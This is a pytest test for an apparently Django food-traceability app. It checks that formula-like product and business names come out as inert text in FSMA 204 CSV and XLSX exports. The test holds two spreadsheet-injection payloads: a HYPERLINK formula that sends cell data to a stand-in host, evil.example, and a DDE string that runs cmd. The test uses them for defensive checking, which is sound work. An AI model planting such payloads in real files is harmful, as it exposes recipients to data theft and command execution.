"""A name a business chose that a spreadsheet would run as a formula is inert text in the FSMA 204 export:
a quoted string in the CSV, a string cell (never a formula) in the .xlsx."""

import io

import pytest
from openpyxl import load_workbook

from foodtrace.registry.models import Business, Product
from tests.exports.conftest import LOT_A
from tests.exports.test_fsma204 import COL, city_key, get, read_csv

EVIL_PRODUCT = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
EVIL_BUSINESS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_a_product_named_like_a_formula_is_inert_text_in_csv_and_xlsx(client, chain):
    Product.objects.filter(pk=chain.product.pk).update(name=EVIL_PRODUCT)
    Business.objects.filter(pk=chain.processor.pk).update(name=EVIL_BUSINESS)
    key = city_key()

    described = f"'{EVIL_PRODUCT} {chain.product.specification} (GTIN {chain.product.gtin})"
    rows = read_csv(get(client, key, tlc=chain.lot_a_uri, format="csv"))
    made = next(r for r in rows if (r["Critical Tracking Event"], r["Traceability Lot Code"]) == (
        "Transformation", LOT_A))
    assert made["Product Description"] == described
    assert made["Location Description - Business Name"] == f"'{EVIL_BUSINESS}"
    # Nothing in the file starts a cell with a formula character.
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]

    response = get(client, key, tlc=chain.lot_a_uri, format="xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))  # formulas as written, not their cached values
    sheet = workbook["FSMA 204"]
    cells = [row for row in sheet.iter_rows(min_row=2) if row[COL["Traceability Lot Code"]].value == LOT_A
             and row[COL["Critical Tracking Event"]].value == "Transformation"]
    product = cells[0][COL["Product Description"]]
    assert product.data_type == "s" and product.value == described
    business = cells[0][COL["Location Description - Business Name"]]
    assert business.data_type == "s" and business.value == f"'{EVIL_BUSINESS}"
    assert not [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # What is stored is the name as typed; only what leaves the platform is neutralised.
    assert Product.objects.get(pk=chain.product.pk).name == EVIL_PRODUCT
